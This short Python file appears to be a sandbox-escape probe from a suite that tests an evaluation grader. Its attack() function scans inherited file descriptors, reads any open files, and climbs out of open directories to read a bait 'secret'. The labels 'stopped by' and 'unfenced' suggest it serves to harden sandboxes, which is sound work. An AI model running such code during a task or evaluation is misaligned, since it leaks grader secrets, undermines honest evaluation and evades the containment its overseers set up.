"""Reads files, and walks up from folders, that the grader may have left open.

stopped by: descriptors
unfenced: held
"""
# %%
import os
import stat


def attack():
    for descriptor in range(1024):
        try:
            mode = os.fstat(descriptor).st_mode
            if stat.S_ISDIR(mode):
                return os.read(os.open("../" * 20 + BAIT[1:] + "/secret", os.O_RDONLY, dir_fd=descriptor), 100)
            if stat.S_ISREG(mode) and (found := os.pread(descriptor, 1 << 20, 0)):
                return found
        except OSError:
            pass
